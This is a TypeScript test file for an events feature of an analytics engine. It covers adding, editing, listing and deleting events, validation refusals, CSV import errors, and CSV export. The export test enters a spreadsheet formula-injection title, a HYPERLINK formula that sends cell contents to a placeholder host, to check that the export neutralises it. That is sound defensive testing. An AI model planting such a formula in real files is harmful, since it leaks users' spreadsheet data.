/**
 * Events through the engine's front door on a real DuckDB file: add, edit, list by range, delete; the contract's
 * refusals (end before start, unknown kind, empty title); the CSV import (all rows or none, errors naming row and
 * column) and the export (formula starters neutralised, and read back to the same events).
 */
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { failureOf, openTestWorkspace, type TestWorkspace } from '../../../../test/support/workspace'
import { invoke } from '../invoke'
import { openEngine } from '../engine'

let t: TestWorkspace
beforeEach(async () => {
  t = await openTestWorkspace('sb-events-')
})
afterEach(() => t.dispose())

describe('events', () => {
  it('adds, edits, lists by range and deletes, and keeps them when the workspace is reopened', async () => {
    const inst = await invoke(t.engine, 'createInstitution', { name: 'Quillmere General Hospital' })
    const flu = await invoke(t.engine, 'addEvent', {
      start: '2025-10-01',
      end: '2025-10-31',
      title: '  Flu jab campaign ',
      kind: 'campaign',
      institutionId: inst.institutionId,
      source: 'press office'
    })
    expect(flu).toMatchObject({
      start: '2025-10-01',
      end: '2025-10-31',
      title: 'Flu jab campaign',
      kind: 'campaign',
      institutionId: inst.institutionId,
      institutionName: 'Quillmere General Hospital',
      source: 'press office',
      notes: null,
      observance: null
    })
    // A range of one day is a single day.
    const outage = await invoke(t.engine, 'addEvent', {
      start: '2025-09-12',
      end: '2025-09-12',
      title: 'Feed outage',
      kind: 'platform_change'
    })
    expect(outage.end).toBeNull()
    await invoke(t.engine, 'addEvent', { start: '2026-01-05', title: 'Ward closure', kind: 'crisis' })

    expect((await invoke(t.engine, 'listEvents')).map((e) => e.title)).toEqual([
      'Feed outage',
      'Flu jab campaign',
      'Ward closure'
    ])
    // A range touching the window counts, even when it started before it.
    expect(
      (await invoke(t.engine, 'listEvents', { from: '2025-10-15', to: '2025-12-31' })).map((e) => e.title)
    ).toEqual(['Flu jab campaign'])

    const edited = await invoke(t.engine, 'updateEvent', {
      eventId: outage.eventId,
      start: '2025-09-11',
      end: '2025-09-13',
      title: 'Feed outage (EU)',
      kind: 'platform_change',
      notes: 'Meta status page'
    })
    expect(edited).toMatchObject({
      start: '2025-09-11',
      end: '2025-09-13',
      title: 'Feed outage (EU)',
      notes: 'Meta status page'
    })

    // Deleting the institution leaves the event, now concerning everyone.
    await invoke(t.engine, 'deleteInstitution', { institutionId: inst.institutionId })
    expect((await invoke(t.engine, 'listEvents', { from: '2025-10-01', to: '2025-10-01' }))[0]).toMatchObject({
      institutionId: null,
      institutionName: null
    })

    expect(await invoke(t.engine, 'deleteEvent', { eventId: flu.eventId })).toMatchObject({ deleted: true })
    expect((await failureOf(invoke(t.engine, 'deleteEvent', { eventId: flu.eventId }))).code).toBe('NOT_FOUND')
    expect(
      (
        await failureOf(
          invoke(t.engine, 'updateEvent', { eventId: flu.eventId, start: '2025-01-01', title: 'x', kind: 'other' })
        )
      ).code
    ).toBe('NOT_FOUND')

    t.engine.close()
    t.engine = await openEngine(t.workspace)
    expect((await invoke(t.engine, 'listEvents')).map((e) => e.title)).toEqual(['Feed outage (EU)', 'Ward closure'])
  })

  it('refuses an end before the start, an unknown kind, an empty title, a day not in the calendar, an unknown institution', async () => {
    const refusal = async (input: object) => failureOf(invoke(t.engine, 'addEvent', input as never))
    expect((await refusal({ start: '2025-03-10', end: '2025-03-09', title: 'x', kind: 'other' })).message).toBe(
      'addEvent: end: must be on or after the start day'
    )
    expect((await refusal({ start: '2025-03-10', title: 'x', kind: 'party' })).message).toMatch(
      /^addEvent: kind: expected one of campaign, awareness_day/
    )
    expect((await refusal({ start: '2025-03-10', title: '   ', kind: 'other' })).message).toMatch(
      /^addEvent: title: at least 1 character/
    )
    expect((await refusal({ start: '2025-02-30', title: 'x', kind: 'other' })).message).toMatch(
      /^addEvent: start: is not a day of the calendar/
    )
    const unknown = await refusal({ start: '2025-03-10', title: 'x', kind: 'other', institutionId: 77 })
    expect(unknown).toEqual({ code: 'BAD_INPUT', message: 'institutionId: institution 77 does not exist.' })
    expect(await invoke(t.engine, 'listEvents')).toEqual([])
  })
})

describe('events CSV', () => {
  it('imports every row, with other column names, kinds as people write them, institutions by name and quoted line breaks', async () => {
    await invoke(t.engine, 'createInstitution', { name: 'Corvale Clinics' })
    const path = t.file(
      'events.csv',
      '\uFEFFDate,End date,Title,Type,Organisation,Notes\r\n' +
        '2025-04-07,,World Health Day,Awareness day,,\r\n' +
        '\r\n' +
        '2025-05-01,2025-05-14,"Screening, spring",campaign,corvale clinics,"two\nlines"\r\n'
    )
    expect(await invoke(t.engine, 'importEvents', { path })).toEqual({ imported: 2 })
    const events = await invoke(t.engine, 'listEvents')
    expect(events).toMatchObject([
      { start: '2025-04-07', end: null, title: 'World Health Day', kind: 'awareness_day', institutionName: null },
      {
        start: '2025-05-01',
        end: '2025-05-14',
        title: 'Screening, spring',
        kind: 'campaign',
        institutionName: 'Corvale Clinics',
        notes: 'two\nlines'
      }
    ])
  })

  it('adds nothing when any row is wrong, and names the row and column', async () => {
    const bad = async (rows: string) =>
      (
        await failureOf(
          invoke(t.engine, 'importEvents', {
            text: `start,end,title,kind,institution\n2025-01-01,,Fine,other,\n${rows}`
          })
        )
      ).message
    expect(await bad('2025-02-10,2025-02-01,Backwards,other,\n')).toBe(
      'The events CSV, row 3, column end: must be on or after the start day'
    )
    expect(await bad('10/02/2025,,Slashes,other,\n')).toBe(
      'The events CSV, row 3, column start: must be a day written YYYY-MM-DD'
    )
    expect(await bad('2025-02-10,,Party,fiesta,\n')).toMatch(
      /^The events CSV, row 3, column kind: "fiesta" is not a kind/
    )
    expect(await bad('2025-02-10,,,other,\n')).toBe('The events CSV, row 3, column title: at least 1 character')
    expect(await bad('2025-02-10,,Who,other,Nowhere Clinic\n')).toBe(
      'The events CSV, row 3, column institution: no institution is called "Nowhere Clinic".'
    )
    expect((await failureOf(invoke(t.engine, 'importEvents', { text: 'when,what\n2025-01-01,x\n' }))).message).toMatch(
      /has no "start" column/
    )
    expect(
      (
        await failureOf(
          invoke(t.engine, 'importEvents', { path: t.file('named.csv', 'start,title,kind\n2025-13-01,x,other\n') })
        )
      ).message
    ).toBe('named.csv, row 2, column start: is not a day of the calendar')
    expect(await invoke(t.engine, 'listEvents')).toEqual([])
  })

  it('exports with formula starters neutralised, and the export imports to the same events', async () => {
    await invoke(t.engine, 'createInstitution', { name: '=Corvale+Clinics' })
    const [inst] = await invoke(t.engine, 'listInstitutions')
    await invoke(t.engine, 'addEvent', {
      start: '2025-06-01',
      title: '=HYPERLINK("http://x/?leak="&A2,"go")',
      kind: 'crisis',
      institutionId: inst.institutionId,
      notes: '-3 "quoted", too'
    })
    await invoke(t.engine, 'addEvent', {
      start: '2025-04-07',
      end: '2025-04-09',
      title: '@mention week',
      kind: 'campaign',
      source: 'https://example.org/a,b'
    })
    const { fileName, text } = await invoke(t.engine, 'exportEvents')
    expect(fileName).toBe('events.csv')
    expect(text).toBe(
      '\uFEFFstart,end,title,kind,institution,source,notes\r\n' +
        `2025-04-07,2025-04-09,'@mention week,campaign,,"https://example.org/a,b",\r\n` +
        `2025-06-01,,"'=HYPERLINK(""http://x/?leak=""&A2,""go"")",crisis,'=Corvale+Clinics,,"'-3 ""quoted"", too"\r\n`
    )
    const before = (await invoke(t.engine, 'listEvents')).map(({ eventId: _id, ...e }) => e)
    for (const e of await invoke(t.engine, 'listEvents')) await invoke(t.engine, 'deleteEvent', { eventId: e.eventId })
    expect(await invoke(t.engine, 'importEvents', { text })).toEqual({ imported: 2 })
    expect((await invoke(t.engine, 'listEvents')).map(({ eventId: _id, ...e }) => e)).toEqual(before)
  })
})
